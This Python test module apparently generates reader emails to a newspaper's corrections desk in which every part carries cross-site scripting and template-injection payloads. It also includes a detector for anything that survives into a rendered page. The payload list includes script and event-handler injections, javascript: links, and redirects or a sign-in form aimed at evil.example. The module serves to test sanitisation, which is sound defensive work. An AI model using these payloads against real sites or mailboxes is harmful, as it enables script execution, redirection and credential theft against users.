"""Mails whose every part tries to become part of a page. All of them call `hax()` or draw a `<hax>` where they get through."""

import base64
from collections.abc import Iterator, Mapping
from email.header import Header

from lxml import html

LINK = "https://courier.example/news/2026/02/lighthouse-relit-after-storm"
PAYLOADS = (
    "<script>hax()</script>",
    '"><img src=x onerror=hax()>',
    "'><svg onload=hax()>",
    "</textarea></title></select><hax>",
    "--><hax><!--",
    "]]><hax>",
    "{{ 7 * 191 }}{% if hax %}",
    "${7 * 191}<%= 7 * 191 %>",
    "\u202e<hax>\u2028hax()",
    "&lt;script&gt;hax()&lt;/script&gt;",
    "&#60;hax&#62;",
    '<a href="javascript:hax()">here</a>',
    "javascript:hax()//http://x.example",
    "<math><mtext></mtext><mglyph><hax>",
    'x" autofocus onfocus=hax() y="',
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<iframe srcdoc="<script>parent.hax()</script>">',
    "<form action=//evil.example><button>Sign in</button>",
    "<style>*{display:none}</style><plaintext>",
    "</script><script>hax()</script>",
    "\ud83d\ude00<hax/onclick=hax()>".encode("utf-16", "surrogatepass").decode("utf-16"),
)
# What a mail of each sort says around the hostile words.
SORTS = (
    "You write about the light at Skerry Point ({link}) that the tower was built in 1874. It should be {words}. See {words}",
    "You write on Friday: “{words}” in the piece on the light. It was 1873.",
    "I think that your leader on the harbour bridge was a disgrace, and one-sided. {words}",
    "We act for Mr Marrable and require the retraction of your article within seven days. {words} Yours, solicitors.",
    "Why does nobody answer the telephone? {words}",
)
_FORBIDDEN = ("hax", "iframe", "object", "embed", "base", "plaintext", "frame", "applet", "meta[@http-equiv]", "mglyph")
_URLS = ("href", "src", "action", "formaction", "poster", "data", "srcset", "background")
_SAFE = ("/", "#", "?", "https://", "http://", "mailto:")


def mails() -> Iterator[bytes]:
    """Every payload in a linked report and in a mail of another sort: in names, subject, words, HTML, and a file's name."""
    for number, words in enumerate(PAYLOADS):
        for sort in (0, 1 + number % (len(SORTS) - 1)):
            yield _mail(words, SORTS[sort].format(words=words, link=LINK), f"{number}.{sort}")


def _mail(words: str, text: str, number: str) -> bytes:
    name = Header(words, "utf-8", maxlinelen=1000).encode()
    quoted = words.replace("\\", "").replace('"', "'").replace("\u2028", " ").encode("ascii", "replace").decode()
    return (
        f"From: {name} <r{number}@reader.example>\r\nTo: corrections@courier.example\r\nSubject: {name}\r\n"
        f"Message-ID: <{number}@reader.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n"
        f"--m\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n{_part('text/plain', text)}"
        f"{_part('text/html', f'<p>{text}</p><hax onclick=hax()>{words}')}--a--\r\n"
        f'--m\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="{quoted}.html"\r\n\r\n{quoted}\r\n'
        "--m--\r\n"
    ).encode()


def _part(media_type: str, text: str) -> str:
    body = base64.encodebytes(text.encode()).decode()
    return f"--a\r\nContent-Type: {media_type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"


def harm(page: str, *, styled: bool = False) -> list[str]:
    """What in a page could act or lead astray. `styled` pages, such as letters, may bring styles of their own."""
    tree = html.document_fromstring(page)
    found = [f"<{tag}>" for tag in _FORBIDDEN if tree.xpath(f"//{tag}")]
    found += ["script" for each in tree.iter("script") if not str(each.get("src", "")).startswith("/assets/")]
    found += ["style" for each in tree.iter("*") if not styled and (each.tag == "style" or each.get("style"))]
    found += ["a worked-out template"] if "1337" in page else []
    for element in tree.iter("*"):
        found += _harm_in({str(name): str(value) for name, value in element.items()})
    return found


def _harm_in(attributes: Mapping[str, str]) -> Iterator[str]:
    for name, value in attributes.items():
        if name.startswith("on") or name == "srcdoc":
            yield name
        if name in _URLS and not value.strip().lower().startswith(_SAFE):
            yield f"{name}={value}"
        if name in {"action", "formaction", "src"} and "evil.example" in value:
            yield f"{name}={value}"
